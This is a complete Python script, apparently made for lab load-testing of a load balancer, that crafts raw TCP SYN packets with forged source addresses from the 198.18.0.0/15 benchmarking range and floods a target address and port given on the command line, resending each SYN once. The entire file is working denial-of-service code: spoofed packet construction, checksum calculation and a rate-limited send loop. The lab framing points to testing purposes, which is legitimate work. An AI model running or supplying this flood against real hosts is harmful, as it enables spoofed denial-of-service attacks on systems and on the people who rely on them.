#!/usr/bin/python3
"""SYNs in the name of many addresses, each sent twice: live_flood.py ADDRESS PORT

Who answers for these addresses resets what he has not asked for, as any live host does; so the second SYN of each counts
as one of a client that hears the load balancer.
"""

import collections
import itertools
import random
import socket
import struct
import sys
import time

FIRST = 0xC6120000  # 198.18.0.0/15 (RFC 2544)
ADDRESSES = 1 << 17
AGAIN_AFTER = 0.05
# At full speed the lab's CPUs, which all hosts share, would have no time for the clients, and a half-open connection would
# make way for others before a client on a busy machine answers.
ADDRESSES_A_SECOND = 2000


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


def syn(source, source_port, destination, port):
    addresses = struct.pack("!I4s", source, destination)
    tcp = struct.pack("!HHIIBBHHH", source_port, port, random.getrandbits(32), 0, 0x50, 2, 64240, 0, 0)
    tcp = tcp[:16] + struct.pack("!H", checksum(addresses + struct.pack("!HH", 6, len(tcp)) + tcp)) + tcp[18:]
    return struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0x4000, 64, 6, 0) + addresses + tcp


def main():
    destination, port = socket.inet_aton(sys.argv[1]), int(sys.argv[2])
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    again = collections.deque()
    for i in itertools.count():
        packet = syn(FIRST + random.randrange(ADDRESSES), 1024 + i % 64000, destination, port)
        raw.sendto(packet, (sys.argv[1], 0))
        again.append((time.monotonic() + AGAIN_AFTER, packet))
        while again and again[0][0] <= time.monotonic():
            raw.sendto(again.popleft()[1], (sys.argv[1], 0))
        time.sleep(1 / ADDRESSES_A_SECOND)


if __name__ == "__main__":
    main()
